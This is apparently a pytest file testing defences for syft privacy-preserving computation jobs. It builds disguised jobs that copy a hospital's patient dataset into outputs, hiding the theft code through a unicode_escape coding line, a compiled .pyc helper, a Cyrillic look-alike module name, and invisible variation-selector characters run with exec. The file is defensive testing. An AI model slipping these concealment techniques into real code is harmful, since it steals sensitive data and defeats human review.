"""Attacks past the eyes of an owner: real jobs that are not what they seem, against syft alone and behind the gate."""

from __future__ import annotations

import py_compile
import tempfile
from pathlib import Path

import pytest

from ppml_helpers.owner_in_control import Defences, attacks
from ppml_helpers.owner_in_control.attacks import COUNT, N_PATIENTS, Attack

STEAL = """import shutil, sys, syft
shutil.copy(syft.resolve_dataset_file_path("patients"), "outputs/result.json")
sys.exit()"""
HIDDEN = "".join(f"\\x{ord(c):02x}" for c in f"\n{STEAL}\n")


def send(scene, name, data, sender=None, straight=False):
    """Propose a file beside the code of a job, in a message or as a file in the other's inbox folder."""
    from syft.sync.messages.proposed_filechange import ProposedFileChange, ProposedFileChangesMessage

    sender = sender or scene.researcher
    code = sender.job_client.jobs["count"].code_dir.relative_to(sender.syftbox_folder / scene.hospital.email)
    change = ProposedFileChange(path_in_datasite=code / name, content=data, datasite_email=scene.hospital.email)
    message = ProposedFileChangesMessage(sender_email=sender.email, proposed_file_changes=[change])
    if straight:
        inbox = scene.network.shared / "datasites" / scene.hospital.email / "inbox" / sender.email
        (inbox / message.message_filename.as_string()).write_bytes(message.as_compressed_data())
    else:
        router = sender.sync_engine.datasite_watcher_syncer.connection_router
        router.watcher_send_proposed_file_changes_message(scene.hospital.email, message)


def compiled(scene):
    with tempfile.TemporaryDirectory() as folder:
        (Path(folder) / "helpers.py").write_text(STEAL)
        send(
            scene, "helpers.pyc", Path(py_compile.compile(f"{folder}/helpers.py", f"{folder}/helpers.pyc")).read_bytes()
        )


PLANS = {
    "names the encoding 'unicode_escape'": Attack(
        "", "", None, code=f"# coding: unicode_escape\n# sha256: {HIDDEN}\n{COUNT}"
    ),
    "helpers.pyc, line 1, column 1, has the byte 0x": Attack(
        "", "", None, code=f"import helpers\n{COUNT}", before=compiled
    ),
    "lpers.py' has U+0435 (cyrillic small letter ie)": Attack(
        "", "", None, code=f"import helpers  # as reviewed\nimport h\u0435lpers\n{COUNT}",
        before=lambda scene: [send(scene, "helpers.py", b""), send(scene, "h\u0435lpers.py", STEAL)],
    ),
    "has U+FE0": Attack(  # the letters of the code, as marks without ink behind one letter
        "", "", None,
        code="text = 'a"
        + "".join(f"{chr(0xFE00 + ord(c) // 16)}{chr(0xFE00 + ord(c) % 16)}" for c in STEAL) + "'[1:]\n"
        "pairs = zip(text[::2], text[1::2])\nexec(''.join(chr(ord(a) % 256 * 16 + ord(b) % 256) for a, b in pairs))\n",
    ),
}  # fmt: skip


@pytest.mark.parametrize("words", PLANS)
def test_a_job_that_is_not_what_it_seems_gets_all_past_an_owner_who_reads_and_nobody_past_the_gate(
    words: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(attacks._BY_NAME, "", PLANS[words])
    alone, gated = attacks.attack(""), attacks.attack("", Defences())
    assert alone.recovered == N_PATIENTS
    assert (gated.recovered, gated.answered) == (0, False)
    assert words in " ".join(gated.refusals)


def test_a_file_laid_straight_into_a_colleague_s_inbox_is_not_taken(monkeypatch: pytest.MonkeyPatch) -> None:
    def lay(scene):
        send(scene, attacks._PLANTED_NAME, attacks._PLANTED, scene.colleague, straight=True)

    monkeypatch.setitem(attacks._BY_NAME, "", Attack("", "", None, by_colleague=True, before=lay))
    alone, gated = attacks.attack(""), attacks.attack("", Defences())
    assert [(leak.recovered, leak.answered) for leak in (alone, gated)] == [(0, True), (0, True)]
    assert "set aside: it bears no signature of carl@university.example" in " ".join(gated.refusals)
